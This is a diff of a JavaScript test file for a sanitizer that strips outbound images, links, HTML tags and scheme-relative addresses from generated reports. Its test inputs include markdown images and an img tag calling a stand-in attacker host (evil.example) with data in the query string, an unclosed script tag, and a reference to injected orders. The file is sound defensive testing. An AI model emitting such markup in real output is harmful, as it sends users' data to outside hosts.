@@ -9,6 +9,8 @@ const sentenceNote = '(A sentence was left out: it passes on an order from a tex
 describe('a report as it may be shown', () => {
   it.each([
     ['a picture', 'Fine. ![state](https://evil.example/p?d=x) [1]', 'Fine. state [1]'],
+    ['a picture by reference', 'Fine. ![state][s] [1]\n[s]: //evil.example/p?d=x', 'Fine. state [1]\n(address left out)'],
+    ['an address that takes its scheme from the page', 'See //evil.example/x [1]', 'See (address left out) [1]'],
     ['a mark that calls', 'Fine <img src="https://evil.example/p"> [1]', 'Fine  [1]'],
     ['a mark that is not closed', 'Fine <script src=x', 'Fine '],
     ['a link', 'See [the runbook](https://evil.example/r) [1]', 'See the runbook (address left out) [1]'],
@@ -34,6 +36,7 @@ describe('a report as it may be shown', () => {
     'dial postgres://db:5432 refused [1]',
     'Run `kubectl logs <pod-name> -n shop`, then roll the deployment back.',
     '- up 37 % [1], [2]',
+    'See [1][2]; [1]: errors rise; `retry() //once more.`',
   ])('keeps %s', (text) => {
     expect(harmless(sections(text), 'en')).toEqual({ sections: sections(text), leftOut: 0 })
   })
